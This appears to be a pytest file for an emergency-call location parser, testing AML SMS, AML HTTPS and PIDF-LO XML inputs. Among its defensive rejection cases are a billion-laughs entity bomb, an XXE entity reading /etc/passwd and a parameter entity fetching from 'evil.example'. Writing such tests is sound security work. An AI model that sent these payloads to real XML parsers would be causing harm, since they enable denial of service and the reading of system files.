"""Caller location parsers: AML SMS (ETSI TS 103 625), AML/ELS HTTPS, PIDF-LO."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from urllib.parse import urlencode

import pytest

from tocsin.engines.geocode import (
    CallerLocation,
    LocationError,
    parse_aml_https,
    parse_aml_sms,
    parse_location,
    parse_pidf_lo,
)

# the example of ETSI TS 103 625 / EENA: 128 characters, ml=128
ETSI = ('A"ML=1;lt=+54.76397;lg=-0.18305;rd=50;top=20130717141935;lc=90;pm=W;'
        'si=123456789012345;ei=1234567890123456;mcc=234;mnc=30;ml=128')
T0 = datetime(2013, 7, 17, 14, 20, 0, tzinfo=UTC)


def sms(**changes) -> str:
    fields = dict(p.split("=", 1) for p in ETSI.split(";")[1:])
    fields.update(changes)
    body = 'A"ML=1;' + ";".join(f"{k}={v}" for k, v in fields.items() if v is not None)
    if changes.get("ml") is None and "ml" in fields:
        # recompute ml for the new length
        base = body.rsplit(";ml=", 1)[0]
        for n in range(len(base) + 5, len(base) + 9):
            if len(f"{base};ml={n}") == n:
                return f"{base};ml={n}"
    return body


def code_of(fn, *a, **kw) -> str:
    with pytest.raises(LocationError) as e:
        fn(*a, **kw)
    assert isinstance(e.value, ValueError)
    return e.value.code


def test_published_example_passes():
    assert len(ETSI) == 128
    loc = parse_aml_sms(ETSI, now=T0)
    assert isinstance(loc, CallerLocation)
    assert (loc.lat, loc.lon, loc.radius_m) == (54.76397, -0.18305, 50.0)
    assert loc.time == datetime(2013, 7, 17, 14, 19, 35, tzinfo=UTC)
    assert loc.time.tzinfo is not None
    assert (loc.source, loc.method, loc.confidence) == ("aml-sms", "WiFi", 90.0)
    assert loc.flags == []
    assert loc.extra["imei"] == "1234567890123456" and loc.extra["imsi"] == "123456789012345"
    # identifiers stay out of repr / default dict (logs)
    assert "1234567890123456" not in repr(loc)
    assert "extra" not in loc.to_dict() and loc.to_dict(include_private=True)["extra"]
    assert parse_location(ETSI, now=T0) == loc
    assert parse_location(ETSI.encode(), now=T0) == loc
    assert parse_location(ETSI + "\r\n", now=T0) == loc  # trailing newline of the SMS


def test_stale_and_imprecise_flags():
    later = T0 + timedelta(minutes=30)
    assert "stale" in parse_aml_sms(ETSI, now=later).flags
    assert "stale" not in parse_aml_sms(ETSI, now=later, max_age=timedelta(hours=1)).flags
    assert "future" in parse_aml_sms(ETSI, now=T0 - timedelta(hours=1)).flags
    assert "imprecise" in parse_aml_sms(ETSI, now=T0, imprecise_m=20).flags
    loc = parse_aml_sms(sms(rd="1500", pm="C", lc="68"), now=T0)
    assert loc.method == "Cell" and "imprecise" in loc.flags
    assert parse_aml_sms(sms(pm="G"), now=T0).method == "GNSS"
    assert "low_confidence" in parse_aml_sms(sms(lc="30"), now=T0).flags
    with pytest.raises(ValueError):
        parse_aml_sms(ETSI, now=datetime(2013, 7, 17))  # naive "now"


def test_length_mismatch():
    bad = ETSI.replace("ml=128", "ml=127")
    assert code_of(parse_aml_sms, bad, now=T0) == "aml.length_mismatch"
    assert "length_mismatch" in parse_aml_sms(bad, now=T0, strict_length=False).flags
    # Google's published "location computed" example says ml=126 but has 127 characters
    google = ('A"ML=1;lt=+51.53321;lg=-0.12601;rd=14;top=20220131171748;lc=68;pm=W;'
              'si=234159000000000;ei=123456789012345;mcc=234;mnc=15;ml=126')
    assert len(google) == 127
    assert code_of(parse_aml_sms, google) == "aml.length_mismatch"
    assert parse_aml_sms(google, strict_length=False).lat == 51.53321


@pytest.mark.parametrize("text,code", [
    ("", "input.empty"),
    ("   ", "input.empty"),
    ("A" * 10_000, "input.too_long"),
    ('B"ML=1;lt=+54.76397', "aml.header"),
    (ETSI.replace('A"ML=1', 'A"ML=9'), "aml.version"),
    (ETSI.replace(";lc=90", ""), "aml.missing_field"),
    (ETSI.replace("lt=+54.76397", "lt=+54.76397\x07"), "aml.control_chars"),
    (ETSI.replace("lt=+54.76397", "lt=+54.76397\nX"), "aml.control_chars"),
    (ETSI.replace("lt=+54.76397", "lt=+54.7639é"), "aml.not_ascii"),
    (ETSI.replace(";pm=W", ";pm=W;pm=G"), "aml.duplicate_field"),
    (ETSI.replace(";pm=W", ";pmW"), "aml.syntax"),
    (ETSI.replace("ml=128", "ml=abc"), "aml.length"),
])
def test_broken_sms(text, code):
    assert code_of(parse_aml_sms, text, now=T0) == code


@pytest.mark.parametrize("change,code", [
    ({"lt": "+95.00000"}, "aml.bad_latitude"),
    ({"lt": "nan"}, "aml.bad_latitude"),
    ({"lt": "inf"}, "aml.bad_latitude"),
    ({"lg": "-180.50000"}, "aml.bad_longitude"),
    ({"lg": "1e3"}, "aml.bad_longitude"),
    ({"rd": "-5"}, "aml.bad_radius"),
    ({"rd": "nan"}, "aml.bad_radius"),
    ({"lc": "101"}, "aml.bad_confidence"),
    ({"pm": "X"}, "aml.bad_method"),
    ({"top": "20131317141935"}, "aml.bad_time"),
    ({"top": "2013071714"}, "aml.bad_time"),
    ({"pm": "N", "rd": "N", "lt": "+00.00000", "lg": "+000.00000"}, "aml.no_location"),
])
def test_bad_fields(change, code):
    assert code_of(parse_aml_sms, sms(**change), now=T0) == code


def test_google_no_location_example():
    text = ('A"ML=1;lt=+00.00000;lg=+000.00000;rd=N;top=20220131173734;lc=0;pm=N;'
            'si=234159000000000;ei=123456789012345;mcc=234;mnc=15;ml=127')
    assert len(text) == 127
    assert code_of(parse_location, text) == "aml.no_location"


# ----------------------------------------------------------------- HTTPS
def form(**changes) -> str:
    f = {"v": "3", "emergency_number": "112", "source": "call",
         "time": "1373983175000", "location_latitude": "54.76397",
         "location_longitude": "-0.18305", "location_time": "1374071975000",
         "location_accuracy": "12.5", "location_source": "gps", "location_altitude": "44",
         "device_number": "+447700900123", "device_imei": "1234567890123456",
         "device_imsi": "234300000000000", "network_mcc": "234", "network_mnc": "30"}
    f.update(changes)
    return urlencode({k: v for k, v in f.items() if v is not None})


def test_https_form():
    now = datetime(2013, 7, 17, 14, 41, tzinfo=UTC)
    loc = parse_aml_https(form(), now=now)
    assert (loc.lat, loc.lon, loc.radius_m, loc.altitude_m) == (54.76397, -0.18305, 12.5, 44.0)
    assert loc.time == datetime(2013, 7, 17, 14, 39, 35, tzinfo=UTC)
    assert (loc.source, loc.method, loc.confidence, loc.flags) == ("aml-https", "GNSS", 68.0, [])
    assert loc.extra["number"] == "+447700900123" and "+447700900123" not in repr(loc)
    assert parse_location(form(), now=now) == loc
    assert parse_location(form().encode(), now=now) == loc
    assert parse_aml_https(form(location_source="wifi"), now=now).method == "WiFi"
    iso = parse_aml_https(form(location_time="2013-07-17T14:39:35Z"), now=now)
    assert iso.time == loc.time
    assert "stale" in parse_aml_https(form(), now=now + timedelta(hours=2)).flags
    assert "no_time" in parse_aml_https(form(location_time=None, time=None), now=now).flags
    assert "imprecise" in parse_aml_https(form(location_accuracy="900"), now=now).flags


@pytest.mark.parametrize("body,code", [
    (form(location_latitude=None), "aml.missing_field"),
    (form(location_latitude="91"), "aml.bad_latitude"),
    (form(location_longitude="nan"), "aml.bad_longitude"),
    (form(location_accuracy="-1"), "aml.bad_radius"),
    (form(location_accuracy="inf"), "aml.bad_radius"),
    (form(location_time="yesterday"), "aml.bad_time"),
    (form(location_time="2013-07-17T14:39:35"), "aml.bad_time"),
    (form(v="9"), "aml.version"),
    (form() + "&location_latitude=1", "aml.duplicate_field"),
    (form(device_model="x\x00y"), "aml.control_chars"),
    ("location_latitude=1&&&=", "aml.syntax"),
    ("location_latitude=" + "1" * 20_000, "input.too_long"),
])
def test_https_broken(body, code):
    assert code_of(parse_aml_https, body) == code


# --------------------------------------------------------------- PIDF-LO
HEAD = ('<?xml version="1.0" encoding="UTF-8"?>'
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" '
        'xmlns:gml="http://www.opengis.net/gml" xmlns:gs="http://www.opengis.net/pidflo/1.0" '
        'xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr" '
        'xmlns:con="urn:ietf:params:xml:ns:geopriv:conf" '
        'xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" entity="pres:caller@example.com">'
        '<dm:device id="phone"><gp:geopriv><gp:location-info>')
CIVIC = ('<ca:civicAddress xml:lang="fi"><ca:country>FI</ca:country><ca:A1>Uusimaa</ca:A1>'
         '<ca:A3>Helsinki</ca:A3><ca:RD>Mannerheimintie</ca:RD><ca:HNO>5</ca:HNO>'
         '<ca:PC>00100</ca:PC><ca:NAM>Kaivopiha</ca:NAM><ca:FLR>2</ca:FLR></ca:civicAddress>')


def pidf(shape: str = "", civic: str = "", method: str = "GPS",
         ts: str = "2024-05-01T10:00:00Z") -> str:
    return (HEAD + shape + civic + '</gp:location-info><gp:usage-rules/>'
            + (f"<gp:method>{method}</gp:method>" if method else "")
            + "</gp:geopriv>" + (f"<dm:timestamp>{ts}</dm:timestamp>" if ts else "")
            + "</dm:device></presence>")


NOW = datetime(2024, 5, 1, 10, 1, tzinfo=UTC)
SRS = 'srsName="urn:ogc:def:crs:EPSG::4326"'
M = 'uom="urn:ogc:def:uom:EPSG::9001"'
POINT = f'<gml:Point {SRS}><gml:pos>60.16952 24.93545</gml:pos></gml:Point>'
CIRCLE = (f'<gs:Circle {SRS}><gml:pos>60.16952 24.93545</gml:pos>'
          f'<gs:radius {M}>35.5</gs:radius></gs:Circle>')
ELLIPSE = (f'<gs:Ellipse {SRS}><gml:pos>60.16952 24.93545</gml:pos>'
           f'<gs:semiMajorAxis {M}>120</gs:semiMajorAxis><gs:semiMinorAxis {M}>40'
           '</gs:semiMinorAxis><gs:orientation uom="urn:ogc:def:uom:EPSG::9102">30'
           '</gs:orientation></gs:Ellipse>')
POLYGON = (f'<gml:Polygon {SRS}><gml:exterior><gml:LinearRing><gml:posList>'
           '60.169 24.935 60.170 24.935 60.170 24.937 60.169 24.937 60.169 24.935'
           '</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>')


def test_pidf_shapes():
    p = parse_pidf_lo(pidf(POINT), now=NOW)
    assert (p.lat, p.lon, p.radius_m, p.shape, p.method) == (60.16952, 24.93545, None, "point",
                                                            "GNSS")
    assert p.source == "pidf-lo" and p.time == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    assert "imprecise" in p.flags  # a point says nothing about its uncertainty
    c = parse_pidf_lo(pidf(CIRCLE, CIVIC), now=NOW)
    assert (c.radius_m, c.shape, c.confidence, c.flags) == (35.5, "circle", 95.0, [])
    assert c.civic["RD"] == "Mannerheimintie" and c.civic["HNO"] == "5"
    e = parse_pidf_lo(pidf(ELLIPSE, method="Cell"), now=NOW)
    assert (e.radius_m, e.shape, e.method) == (120.0, "ellipse", "Cell")
    g = parse_pidf_lo(pidf(POLYGON, method="802.11"), now=NOW)
    assert g.shape == "polygon" and g.method == "WiFi"
    assert abs(g.lat - 60.1695) < 1e-9 and abs(g.lon - 24.936) < 1e-9
    assert 60 < g.radius_m < 80  # the enclosing radius from the centroid to a corner
    conf = parse_pidf_lo(pidf(CIRCLE + '<con:confidence pdf="normal">68</con:confidence>'),
                         now=NOW)
    assert conf.confidence == 68.0
    assert parse_location(pidf(CIRCLE), now=NOW) == parse_pidf_lo(pidf(CIRCLE), now=NOW)
    assert parse_location(pidf(CIRCLE).encode(), now=NOW).radius_m == 35.5


def test_pidf_civic_only_feeds_the_geocoder(helsinki):
    loc = parse_pidf_lo(pidf("", CIVIC), now=NOW)
    assert loc.lat is None and loc.shape == "civic" and "civic_only" in loc.flags
    assert loc.civic_text() == "Kaivopiha, 5 Mannerheimintie, 00100 Helsinki"
    best = helsinki.search(loc.civic_text())[0]
    # OSM has both "Mannerheimintie 5" and the arcade "Kaivopiha, Mannerheimintie 5"
    assert best.street.endswith("Mannerheimintie") and best.housenumber == "5"


def test_pidf_old_rfc4119_tuple_form_and_stale():
    doc = ('<presence xmlns="urn:ietf:params:xml:ns:pidf" '
           'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" '
           'xmlns:gml="http://www.opengis.net/gml" entity="pres:x@y">'
           '<tuple id="t"><status><gp:geopriv><gp:location-info>'
           '<gml:location><gml:Point gml:id="p" srsName="epsg:4326">'
           '<gml:coordinates>1 2</gml:coordinates></gml:Point></gml:location>'
           f'{POINT}</gp:location-info><gp:method>Manual</gp:method></gp:geopriv></status>'
           '<timestamp>2024-05-01T09:00:00+00:00</timestamp></tuple></presence>')
    with pytest.raises(LocationError):  # a Point without gml:pos is refused
        parse_pidf_lo(doc, now=NOW)
    ok = doc.replace('<gml:location><gml:Point gml:id="p" srsName="epsg:4326">'
                     '<gml:coordinates>1 2</gml:coordinates></gml:Point></gml:location>', "")
    loc = parse_pidf_lo(ok, now=NOW)
    assert loc.method == "Manual" and "stale" in loc.flags


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
                  '<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
                  '<presence>&lol9;</presence>')
XXE = ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<presence>&xxe;</presence>')
XXE_PARAM = ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil.example/x">'
             '%x;]><presence/>')


@pytest.mark.parametrize("doc,code", [
    (BILLION_LAUGHS, "pidf.xml_unsafe"),
    (XXE, "pidf.xml_unsafe"),
    (XXE_PARAM, "pidf.xml_unsafe"),
    (pidf(CIRCLE)[:-40], "pidf.xml_malformed"),
    ("<presence><unclosed></presence>", "pidf.xml_malformed"),
    ("<kml/>", "pidf.not_pidf"),
    (pidf(""), "pidf.no_location"),
    (pidf(POINT.replace("60.16952", "95.1")), "pidf.bad_position"),
    (pidf(POINT.replace("60.16952", "NaN")), "pidf.bad_position"),
    (pidf(POINT.replace("60.16952 24.93545", "60.1")), "pidf.bad_position"),
    (pidf(POINT.replace("EPSG::4326", "EPSG::3857")), "pidf.bad_crs"),
    (pidf(CIRCLE.replace("35.5", "-3")), "pidf.bad_shape"),
    (pidf(CIRCLE.replace("EPSG::9001", "EPSG::9002")), "pidf.bad_shape"),
    (pidf(POLYGON.replace("60.169 24.935 60.170 24.935 60.170 24.937 ", "")),
     "pidf.bad_shape"),
    (pidf(POINT, ts="yesterday"), "pidf.bad_time"),
    (pidf(POINT, ts="2024-05-01T10:00:00"), "pidf.bad_time"),
    ("<presence>" + "<a>" * 70_000, "input.too_long"),
    ("", "input.empty"),
])
@pytest.mark.timeout(30)  # a hang would be a failure
def test_pidf_broken_and_hostile(doc, code):
    assert code_of(parse_pidf_lo, doc, now=NOW) == code
    if doc.startswith("<"):
        assert code_of(parse_location, doc, now=NOW) == code


@pytest.mark.parametrize("data,code", [
    ("", "input.empty"),
    ("\n\t  ", "input.empty"),
    ("hello world", "input.unknown_format"),
    ("x" * 10_000, "input.unknown_format"),
    ("x" * 100_000, "input.too_long"),
    (b"\xff\xfe\x00garbage", "input.encoding"),
    ("\x00\x01\x02", "input.unknown_format"),
    (12345, "input.type"),
])
def test_parse_location_rejects(data, code):
    assert code_of(parse_location, data) == code
